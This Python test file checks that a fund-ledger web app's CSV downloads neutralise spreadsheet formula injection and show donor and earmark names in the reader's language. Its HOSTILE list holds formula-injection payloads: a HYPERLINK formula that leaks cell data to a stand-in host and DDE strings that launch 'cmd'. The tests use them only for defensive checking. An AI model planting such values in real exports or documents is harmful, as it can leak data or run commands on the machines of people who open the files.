"""Every CSV download neutralises text a spreadsheet would run as a formula (OWASP's rule),
and a program reading it gets the text back (docs/EXPORTS.md)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Callable
from decimal import Decimal

from flask.testing import FlaskClient

from fundledger.actors import Actor
from fundledger.auth.models import User
from fundledger.db import Database
from fundledger.donors.operations import create_donor
from fundledger.donors.pledges import record_pledge
from fundledger.donors.receipts import record_receipt
from fundledger.web.i18n import COOKIE
from tests.unit.test_tabular import unmarked
from tests.web.downloads import csv_text

SETUP = Actor("setup@oas.org")
#: What a hostile donor name or reference looks like; each starts a formula in a spreadsheet.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]  # fmt: skip


def column(client: FlaskClient, url: str, name: str) -> list[str]:
    return [row[name] for row in csv.DictReader(io.StringIO(csv_text(client.get(url))))]


def test_donor_names_and_references_download_as_text(
    database: Database, client: FlaskClient, login_as: Callable[..., User]
) -> None:
    with database.transaction() as session:
        for number, text in enumerate(HOSTILE):
            donor = create_donor(session, SETUP, code=f"D{number}", name=text, type="member_state")
            pledge = record_pledge(session, SETUP, donor, pledge_date=dt.date(2025, 3, 1),
                                   amount=Decimal(10), currency="USD", reference=text)  # fmt: skip
            record_receipt(session, SETUP, donor, value_date=dt.date(2025, 3, 2),
                           amount=Decimal("10.00"), currency="USD", pledges=[pledge],
                           reference=text)  # fmt: skip
    login_as("auditor")
    for url, name in [("/donors.csv", "name"), ("/pledges.csv", "reference"),
                      ("/receipts.csv", "reference")]:  # fmt: skip
        cells = column(client, url, name)
        assert all(cell.startswith("'") for cell in cells), (url, cells)
        assert sorted(unmarked(cell) for cell in cells) == sorted(HOSTILE), url
    assert set(column(client, "/pledges.csv", "amount")) == {"10.00"}


def test_pledges_and_receipts_name_their_donor_and_earmark_in_the_readers_language(
    database: Database, client: FlaskClient, login_as: Callable[..., User]
) -> None:
    """Beside the codes a program reads, a person reads the donor's name and the earmark's
    label (fundledger/program/labels.py) in their language."""
    with database.transaction() as session:
        donor = create_donor(session, SETUP, code="ES-OBS", name="Spain", names={"es": "España"},
                             type="permanent_observer")  # fmt: skip
        record_pledge(session, SETUP, donor, pledge_date=dt.date(2025, 3, 1),
                      amount=Decimal(10), currency="USD", earmark="activity:5")  # fmt: skip
        record_receipt(session, SETUP, donor, value_date=dt.date(2025, 3, 2),
                       amount=Decimal("10.00"), currency="USD", unpledged=True,
                       earmark="activity:5")  # fmt: skip
    login_as("auditor")
    client.set_cookie(COOKIE, "es")
    for url in ("/pledges.csv", "/receipts.csv"):
        (row,) = csv.DictReader(io.StringIO(csv_text(client.get(url))))
        assert (row["donor"], row["donor_name"]) == ("ES-OBS", "España"), url
        assert row["earmark"] == "activity:5", url
        assert row["earmark_name"].startswith("Actividad 5 — "), url
    client.set_cookie(COOKIE, "en")
    (row,) = csv.DictReader(io.StringIO(csv_text(client.get("/pledges.csv"))))
    assert (row["donor_name"], row["earmark_name"][:13]) == ("Spain", "Activity 5 — ")
